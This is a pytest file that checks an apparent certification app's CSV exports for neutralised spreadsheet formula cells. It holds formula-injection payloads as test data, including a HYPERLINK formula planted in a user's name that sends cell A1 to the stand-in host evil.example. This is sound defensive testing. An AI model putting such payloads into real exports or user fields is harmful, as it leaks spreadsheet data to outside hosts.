"""Every CSV export defuses cells a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io

import pytest

from certify.core.csv_export import safe_cell, stream_csv, write_csv
from tests.factories import enrol, make_cohort, make_person

ATTACKS = ["=HYPERLINK(\"https://evil.example\",\"clic\")", "+1+1", "-2+3", "@SUM(A1)",
           "\tTab", "\rCarriage"]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_cells_become_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value,written", [
    ("Ana María", "Ana María"), (None, ""), (-3, -3), (4.5, 4.5), ("", ""),
    ("O'Higgins", "O'Higgins"),
])
def test_other_cells_are_written_as_they_are(value, written):
    assert safe_cell(value) == written


def test_whole_and_streamed_files_agree():
    rows = [[value, 1] for value in ATTACKS]
    whole = write_csv(["name", "n"], rows)
    streamed = "".join(stream_csv(["name", "n"], rows, batch=2, prefix="\ufeff"))
    assert streamed == "\ufeff" + whole
    parsed = list(csv.reader(io.StringIO(whole)))
    assert [row[0] for row in parsed[1:]] == ["'" + value for value in ATTACKS]


def test_the_cohort_overview_defuses_a_moodle_users_own_name(client, login_as, programme,
                                                             manager):
    cohort = make_cohort(programme, "Cohorte CSV")
    attacker = make_person(given_names='=HYPERLINK("https://evil.example/?"&A1,"Ver")',
                           family_names="@Pérez")
    enrol(cohort, attacker)
    login_as(manager)
    export = client.post(f"/cohorts/{cohort.id}/overview.csv")
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.get_data(as_text=True).lstrip("\ufeff"))))
    family, given = rows[1][0], rows[1][1]
    assert family == "'@Pérez"
    assert given == '\'=HYPERLINK("https://evil.example/?"&A1,"Ver")'
